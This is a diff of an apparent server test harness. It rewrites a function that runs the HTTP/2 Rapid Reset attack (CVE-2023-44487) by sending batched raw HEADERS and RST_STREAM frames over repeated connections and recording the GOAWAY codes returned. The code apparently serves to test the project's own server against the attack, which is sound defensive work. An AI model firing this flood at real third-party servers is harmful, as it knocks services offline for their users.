@@ -22,6 +22,7 @@ import h2.connection
 import h2.errors
 import h2.events
 import h2.exceptions
+import hpack
 
 from test_doh_sansio import _BIG_ENTRY as BIG_ENTRY, _headers_frame
 from tls_certs import SERVER_NAME
@@ -199,36 +200,79 @@ def unread_output(target: Target, limit: float = 30.0) -> tuple[Ending, int]:
     return Ending("open", float("inf")), sent
 
 
+def _request_block(path: str) -> bytes:
+    """A GET request's header block that leaves HPACK's dynamic table alone (static
+    references and never-indexed literals), so that it can be sent again as it is."""
+    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in
+                                   headers(path)])
+
+
+def _frame(kind: int, flags: int, sid: int, payload: bytes) -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + sid.to_bytes(4, "big") + payload
+
+
+def _goaway_in(buf: bytearray) -> tuple[str | None, bytearray]:
+    """The GOAWAY's error code among the whole frames at the head of ``buf``, and the rest."""
+    code = None
+    while len(buf) >= 9:
+        n = int.from_bytes(buf[:3], "big")
+        if len(buf) < 9 + n:
+            break
+        if buf[3] == 7 and n >= 8:
+            value = int.from_bytes(buf[13:17], "big")
+            try:
+                code = h2.errors.ErrorCodes(value).name
+            except ValueError:
+                code = str(value)
+        del buf[:9 + n]
+    return code, buf
+
+
 def rapid_reset(target: Target, connections: int, streams: int,
                 limit: float = 10.0) -> list[Ending]:
-    """The rapid-reset attack reconnecting: on each of ``connections`` connections, opened
-    one after the other, ``streams`` requests each reset at once (HEADERS then RST_STREAM),
-    then reads until the server ends it, and opens the next. How each ended ("refused":
-    the connection or its handshake was refused)."""
+    """The rapid-reset attack (CVE-2023-44487) reconnecting: on each of ``connections``
+    connections, opened one after the other, ``streams`` requests each reset at once
+    (HEADERS then RST_STREAM, written as raw frames in batches), then reads until the
+    server ends it or ``limit`` seconds pass, and opens the next. How each ended
+    ("refused": the connection or its handshake was refused; "open" when the server never
+    ended it)."""
     t0 = time.monotonic()
     endings = []
-    path = query_path(target)
+    block = _request_block(query_path(target))
     for _ in range(connections):
         try:
-            s, conn = connect(target)
+            s, _conn = connect(target)
         except OSError:
             endings.append(Ending("refused", time.monotonic() - t0))
             continue
         with s:
-            started = time.monotonic()
+            code = None
+            buf = bytearray()
+            s.settimeout(0.2)
             try:
-                for i in range(streams):
-                    sid = 1 + 2 * i
-                    conn.send_headers(sid, headers(path), end_stream=True)
-                    conn.reset_stream(sid)
-                    if i % 50 == 49:
-                        s.sendall(conn.data_to_send())
-                s.sendall(conn.data_to_send())
-            except (OSError, h2.exceptions.ProtocolError):
-                endings.append(Ending("closed", time.monotonic() - t0))
-                continue
-            seen, closed = read_to_end(s, conn, limit)
-        endings.append(ending_of(seen, closed, t0, started))
+                for first in range(0, streams, 500):
+                    s.sendall(b"".join(
+                        _frame(1, 0x5, 1 + 2 * i, block) + _frame(3, 0, 1 + 2 * i, b"\0\0\0\x08")
+                        for i in range(first, min(streams, first + 500))))
+                closed = False
+                sent = time.monotonic()
+                while time.monotonic() - sent < limit:
+                    try:
+                        data = s.recv(65536)
+                    except socket.timeout:
+                        continue
+                    if not data:
+                        closed = True
+                        break
+                    found, buf = _goaway_in(buf + data)
+                    code = code or found
+            except (OSError, ssl.SSLError):
+                closed = True
+        now = time.monotonic() - t0
+        if not closed:
+            endings.append(Ending(f"open (goaway {code})" if code else "open", float("inf")))
+        else:
+            endings.append(Ending(f"goaway {code}" if code else "closed", now))
     return endings
 
 
